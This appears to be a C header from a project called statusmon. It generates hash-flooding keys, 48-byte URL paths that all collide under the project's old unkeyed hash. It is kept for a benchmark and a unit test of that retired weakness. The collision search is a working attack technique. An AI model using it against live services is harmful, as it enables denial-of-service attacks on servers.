/* bench/flood_keys.h: hash-flooding keys against statusmon's OLD (unkeyed,
 * before 2026-11) path hash, kept here as the attack's reference so the
 * flood generator (bench/flood.c) and the unit test (tests/stats/
 * test_hash.c) build the very keys that once collided.
 *
 * The old round was h = mum(A ^ P1, B ^ h) with the 128-bit product folded
 * to 64 bits: a block whose second word B equals the running state h makes
 * the product 0 whatever A is. So: a 16-byte first block is searched until
 * the state after it is 8 URL-safe bytes; the second block is any 8 URL-safe
 * bytes (the free part, 64^8 choices) followed by that state; the last 16
 * bytes are fixed. Every such 48-byte path has the same 64-bit old hash. */
#ifndef STATUSMON_BENCH_FLOOD_KEYS_H
#define STATUSMON_BENCH_FLOOD_KEYS_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#define FLOOD_KEY_LEN 48
#define OLDHASH_P0 0xa0761d6478bd642fULL
#define OLDHASH_P1 0xe7037ed1a0b428dbULL
#define OLDHASH_P2 0x8ebc6af09c88c6e3ULL

static const char flood_alphabet[] =
	"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

static inline uint64_t oldhash_mum(uint64_t a, uint64_t b)
{
	__extension__ typedef unsigned __int128 u128;
	u128 r = (u128)a * b;

	return (uint64_t)r ^ (uint64_t)(r >> 64);
}

static inline uint64_t oldhash_read8(const unsigned char *p)
{
	uint64_t v;

	memcpy(&v, p, 8);
	return v;
}

/* The old hash_bytes for keys longer than 16 bytes (all flood keys are). */
static inline uint64_t oldhash_long(const void *data, size_t n)
{
	const unsigned char *p = data;
	uint64_t h = OLDHASH_P0 ^ (n * OLDHASH_P1);
	size_t i;

	for (i = n; i > 16; i -= 16, p += 16)
		h = oldhash_mum(oldhash_read8(p) ^ OLDHASH_P1, oldhash_read8(p + 8) ^ h);
	p -= 16 - i;
	h = oldhash_mum(oldhash_read8(p) ^ OLDHASH_P1, oldhash_read8(p + 8) ^ h ^ OLDHASH_P2);
	return oldhash_mum(h ^ OLDHASH_P0, n ^ OLDHASH_P2);
}

static inline bool flood_url_safe(uint64_t v)
{
	for (int i = 0; i < 8; i++, v >>= 8)
		if (!memchr(flood_alphabet, (int)(v & 0xff), sizeof flood_alphabet - 1))
			return false;
	return true;
}

/* The fixed parts of the family: key[0..16) and key[24..48); key[16..24)
 * is left for flood_key. Searches at most 2^32 first blocks (about 50,000
 * are needed); false if none fits (never seen). */
static inline bool flood_init(unsigned char key[FLOOD_KEY_LEN])
{
	uint64_t h0 = OLDHASH_P0 ^ ((uint64_t)FLOOD_KEY_LEN * OLDHASH_P1), h1;

	memcpy(key, "/assets/", 8);
	memcpy(key + 32, "/app.min.js-v002", 16);
	for (uint64_t c = 0; c < (1ULL << 32); c++) {
		for (int i = 0; i < 8; i++)
			key[8 + i] = (unsigned char)flood_alphabet[(c >> (6 * i)) & 63];
		h1 = oldhash_mum(oldhash_read8(key) ^ OLDHASH_P1, oldhash_read8(key + 8) ^ h0);
		if (flood_url_safe(h1)) {
			memcpy(key + 24, &h1, 8);
			return true;
		}
	}
	return false;
}

/* Member i (< 2^48) of the family: its free 8 bytes spell i in base 64. */
static inline void flood_key(unsigned char key[FLOOD_KEY_LEN], uint64_t i)
{
	for (int j = 0; j < 8; j++)
		key[16 + j] = (unsigned char)flood_alphabet[(i >> (6 * j)) & 63];
}

#endif
